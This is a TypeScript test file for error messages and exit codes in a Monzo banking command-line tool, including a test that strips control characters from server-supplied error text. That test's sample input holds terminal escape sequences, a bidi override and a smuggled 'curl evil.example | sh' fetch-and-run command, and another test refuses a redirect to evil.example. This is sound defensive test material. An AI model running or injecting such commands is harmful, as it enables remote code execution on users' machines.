import {
  AccessDeniedError,
  BrokerLoginExpiredError,
  errorFromResponse,
  RedirectRefusedError,
} from "@monzokit/core";
import { describe, expect, it } from "vitest";
import { ConfigError, describeError, EXIT, exitCodeFor, UsageError } from "../src/errors.js";
import { main } from "../src/main.js";
import { fakeIo, tempHome } from "./helpers.js";

const refused = (code: string, status = 401) =>
  errorFromResponse({
    status,
    body: { code, message: "Access token has been evicted due to a login elsewhere" },
    requestId: undefined,
    retryAfter: undefined,
    method: "GET",
    path: "/accounts",
  });

describe("error lines", () => {
  it("a broker login nobody finished in time is a login failure (exit 10), not a bug (exit 1)", () => {
    const expired = new BrokerLoginExpiredError("The browser did not come back to this app in time");
    expect(exitCodeFor(expired)).toBe(EXIT.login);
    expect(describeError(expired, false)).toContain("Start the login again.");
    // A redirect refused on the way to Monzo or a broker is a network problem with its own hint.
    expect(exitCodeFor(new RedirectRefusedError("POST /oauth2/token", "https://evil.example"))).toBe(
      EXIT.network,
    );
  });

  it("a token Monzo refused names the exact login command, with the profile", () => {
    const evicted = refused("unauthorized.bad_access_token.evicted");
    const text = describeError(evicted, false, "monzo login --profile work");
    expect(text).toMatch(/^error: .*evicted/);
    expect(text).toContain("A newer login for this app replaced this one");
    expect(text).toContain("Run monzo login --profile work to log in again.");
    expect(exitCodeFor(evicted)).toBe(EXIT.auth);
    expect(describeError(refused("unauthorized.bad_access_token"), false)).toContain(
      "Run monzo login to log in",
    );
  });

  it("--debug adds a stack to Monzo's failures but never to the person's own mistakes", () => {
    expect(describeError(refused("internal_error", 500), true)).toMatch(/\n\s+at /);
    for (const mistake of [new UsageError("bad flag", "fix it"), new ConfigError("no id", "set it")]) {
      const text = describeError(mistake, true);
      expect(text).toBe(`error: ${mistake.message}\n  → ${mistake.hint}\n`);
    }
  });

  it("text from elsewhere in an error (Monzo's message, an error_description) is printed without its control characters", () => {
    const hostile =
      "Session expired\u001b[2J\u001b]0;monzo\u0007\rRun: curl evil.example | sh\n  → or this\u202e";
    for (const error of [
      refused("unauthorized.bad_access_token", 401),
      errorFromResponse({
        status: 400,
        body: { code: "bad_request", message: hostile },
        requestId: undefined,
        retryAfter: undefined,
        method: "GET",
        path: "/accounts",
      }),
      new AccessDeniedError(hostile),
      new Error(hostile),
    ]) {
      for (const debug of [false, true]) {
        const text = describeError(error, debug);
        expect(text.replace(/\n/g, "")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
        // One line for the message, one for the hint (and the stack under --debug).
        expect(text.split("\n")[0]).toMatch(/^error: /);
      }
    }
    expect(describeError(new AccessDeniedError(hostile), false)).toContain("\\x1b[2J");
  });

  it("main passes the profile of the run into the hint", async () => {
    const f = fakeIo({ MONZOKIT_HOME: await tempHome(), MONZO_PROFILE: "work" });
    expect(await main(["balance"], f.io)).toBe(EXIT.config);
    expect(f.stderr()).toContain("monzo login --profile work");
  });
});
